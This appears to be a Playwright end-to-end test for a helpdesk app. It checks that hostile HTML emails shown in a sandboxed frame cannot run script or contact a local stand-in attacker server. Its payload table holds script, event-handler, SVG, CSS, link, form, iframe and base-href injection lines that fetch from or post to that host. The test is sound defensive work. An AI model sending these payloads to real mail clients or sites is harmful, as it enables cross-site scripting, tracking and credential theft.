import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect } from 'vitest';
import { conversation, pathOf } from './desk';
import { ticketAbout } from './hub';
import { demo, test } from './stage';
import { mailTown, stranger } from './world';

// A server of the attacker: whatever reaches it is a leak.
let server: Server;
let evil = '';
const leaks: string[] = [];

beforeAll(async () => {
  server = createServer((request, answer) => {
    leaks.push(request.url ?? '');
    answer.end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  evil = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});

afterAll(() => server.close());

const mark = 'Testo innocuo.';
const payloads: Record<string, (evil: string) => string> = {
  script: (to) => `<script>parent.hacked=1;location='${to}/script'</script><script src="${to}/src.js"></script>`,
  onerror: (to) => `<img src="x:" onerror="fetch('${to}/onerror');parent.hacked=1"><body onload="fetch('${to}/onload')">`,
  svg: (to) => `<svg onload="fetch('${to}/svg')"><script>parent.hacked=1</script><image href="${to}/svg.png"/><animate onbegin="parent.hacked=1"/></svg>`,
  refresh: (to) => `<meta http-equiv="refresh" content="0;url=${to}/refresh">`,
  image: (to) => `<img src="${to}/pixel.gif" srcset="${to}/srcset.gif 2x"><picture><source srcset="${to}/source.gif"><img></picture><video poster="${to}/poster" src="${to}/video" autoplay></video>`,
  css: (to) => `<style>@import url(${to}/import.css); body{background:url(${to}/css.png)} @font-face{font-family:x;src:url(${to}/font)} p{font-family:x}</style><p style="background:url('${to}/inline.png')">x</p><link rel="stylesheet" href="${to}/link.css"><link rel="preload" as="image" href="${to}/preload"><link rel="dns-prefetch" href="${to}">`,
  links: (to) => `<a href="javascript:parent.hacked=1;fetch('${to}/js')">Premi qui</a> <a href="data:text/html,<script>parent.hacked=1</script>" target="_top">E qui</a>`,
  form: (to) => `<form action="${to}/form" method="post"><input name="password" value="x" autofocus onfocus="parent.hacked=1"><button>Invia</button></form>`,
  iframe: (to) => `<iframe src="${to}/iframe"></iframe><iframe srcdoc="<script>top.hacked=1</script>"></iframe><object data="${to}/object"></object><embed src="${to}/embed">`,
  base: (to) => `<base href="${to}/" target="_top"><img src="relative.png"><a href="go">Vai</a>`,
};

test.for(Object.keys(payloads))('hostile mail cannot act: %s', async (name, { stage }) => {
  // The browser says in the console what the policy of the frame has stopped.
  stage.allow(/Content Security Policy|sandboxed|Blocked script execution|ERR_BLOCKED/);
  const subject = `Messaggio con insidia ${name}`;
  await mailTown({ from: stranger('ostile'), subject, html: `<html><body><p>${mark}</p>${payloads[name]?.(evil)}<p>Fine.</p></body></html>` });
  const { number } = await ticketAbout(subject);
  const page = await stage.operator();
  const asked: string[] = [];
  page.context().on('request', (request) => asked.push(request.url()));
  const path = pathOf(number);
  await page.goto(demo.internal_url + path);
  await conversation(page).getByText(mark).first().waitFor();
  await showFormatted(page);
  const frame = page.frameLocator('iframe');
  await frame.getByText(mark).waitFor();

  // A person presses whatever can be pressed.
  for (const target of await frame.locator('a, button').all()) await target.click({ timeout: 1000 }).catch(() => undefined);
  await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 300)));

  expect(await page.evaluate(() => 'hacked' in globalThis)).toBe(false);
  expect(new URL(page.url()).pathname).toBe(path);
  expect(page.context().pages().map((each) => each.url()).filter((url) => !url.startsWith(demo.internal_url) && url !== 'about:blank')).toEqual([]);
  expect(asked.filter((url) => !url.startsWith(demo.internal_url))).toEqual([]);
  expect(leaks).toEqual([]);
  if (name === 'css') await stage.shot(page, 'hostile');
});

async function showFormatted(page: Page) {
  const button = conversation(page).getByRole('button', { name: 'Con formattazione' });
  if (await button.count()) await button.first().click();
  await page.locator('iframe').waitFor();
}
